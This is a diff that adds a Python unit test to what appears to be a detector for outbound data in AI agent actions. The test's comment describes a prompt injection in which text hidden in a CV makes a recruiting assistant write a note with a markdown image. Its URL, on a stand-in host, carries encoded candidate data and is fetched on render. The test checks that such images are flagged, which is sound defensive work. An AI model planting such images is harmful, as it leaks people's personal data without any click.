@@ -73,6 +73,25 @@ def test_a_link_in_a_message_is_where_the_message_sends_its_reader() -> None:
     assert decision_features(note, None, "c")["outbound"] == ()
 
 
+def test_an_image_a_written_note_embeds_is_where_its_renderer_sends_data() -> None:
+    # A recruiting assistant, told by text hidden in a CV, writes a note on the candidate's
+    # record that embeds a markdown image whose URL carries the export: whoever renders the
+    # note fetches it, no click needed (EchoLeak's channel). A note is a write, whose text's
+    # links were not destinations; an image it embeds is one now. A plain link in a note,
+    # or an image in a read, is not.
+    image = "https://img.cv-analytics.example/p.png?d=bmFtYSxlbWFpbA%3D%3D"
+    note = _d(operation="write", action="candidate.note", resource="ats/candidate/7/notes",
+              arguments={"id": "7", "text": f"Sync done ![status]({image})"})  # fmt: skip
+    x = decision_features(note, None, "c")
+    assert [(a, k, v) for a, k, v, _ in x["outbound"]] == [("text", "url", image)]
+    html = note.model_copy(update={"arguments": {"body": f'<p><img alt="" src="{image}"></p>'}})
+    assert [v for _, _, v, _ in decision_features(html, None, "c")["outbound"]] == [image]
+    link = note.model_copy(update={"arguments": {"text": "see [CV](https://cv.example/7?p=1)"}})
+    assert decision_features(link, None, "c")["outbound"] == ()
+    read = note.model_copy(update={"operation": "read", "arguments": {"q": f"![s]({image})"}})
+    assert [k for _, k, _, _ in decision_features(read, None, "c")["outbound"]] == []
+
+
 def test_a_grant_to_another_account_is_judged_without_history() -> None:
     policy = {"Statement": [{"Effect": "Allow", "Action": "s3:GetObject",
                              "Principal": {"AWS": "arn:aws:iam::583746291004:root"}}]}  # fmt: skip
